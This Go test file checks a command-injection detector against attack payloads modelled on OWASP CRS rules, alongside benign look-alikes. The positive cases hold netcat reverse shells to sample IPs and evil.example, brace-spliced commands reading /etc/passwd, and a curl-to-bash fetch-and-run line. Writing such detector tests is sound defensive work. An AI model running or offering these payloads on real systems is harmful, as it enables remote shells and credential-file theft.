package signature_test

import "testing"

// TestNetcatShellAnywhere: netcat handing a shell to a connection is a
// reverse shell wherever a payload puts it (the CRS's 932210, behind a
// SQLite ".shell"; after a template); netcat named in a sentence, or
// listening without a shell, is not one.
func TestNetcatShellAnywhere(t *testing.T) {
	checkFamily(t, "cmdi", []familyCase{
		{"q", "\";\n. shell nc 10.10.10.1 6666 -e sh\n", 0.99},
		{"q", "{{ x }} nc -e /bin/bash 10.0.0.1 4444", 0.99},
		{"q", "x' OR 1=1; ncat 10.0.0.1 443 -e cmd.exe", 0.99},
		{"body:application/json", `{"cmd":"run: /bin/netcat -c bash evil.example 80"}`, 0.99},
		{"q", "nc host 80 -e/bin/sh", 0.99},
	}, []familyCase{
		{"q", "use nc -e with care on port 4444", 0},
		{"q", "the nc -c option runs a command", 0},
		{"q", "concat 1 -e sh", 0},
		{"q", "sync -e sh 22", 0},
	}, 0.9)
}

// TestBraceSplicedCommand: a brace expansion that splices a command's
// name around its group or hides it behind an empty alternative runs
// that command (the CRS's 932280: "c{a,oun}t" is "cat count", "{,ip,a}"
// is "ip a"); words in braces in prose do not.
func TestBraceSplicedCommand(t *testing.T) {
	checkFamily(t, "cmdi", []familyCase{
		{"q", "c{a,oun}t", 0.99},
		{"q", "{,ip,a}", 0.99},
		{"q", "x;c{a,oun}t /etc/passwd", 0.99},
	}, []familyCase{
		{"q", "{cat,dog}", 0},
		{"q", "file{1,2}.txt", 0},
		{"q", "s{i,a}t", 0},
		{"q", "colo{u,}r", 0},
		{"q", "{,cats}", 0},
	}, 0.9)
}

// TestPipeToShellBeforeComment: "| sh" followed by a comment ends its
// command as a line break does ("echo ... | tr x o | sh #", the CRS's
// 932220).
func TestPipeToShellBeforeComment(t *testing.T) {
	checkFamily(t, "cmdi", []familyCase{
		{"q", `echo "foo;whxam"i | tr x o | sh #"`, 0.99},
		{"q", "curl http://evil.example/s | bash # update", 0.99},
	}, []familyCase{
		{"q", "a | shell #2", 0},
	}, 0.9)
}
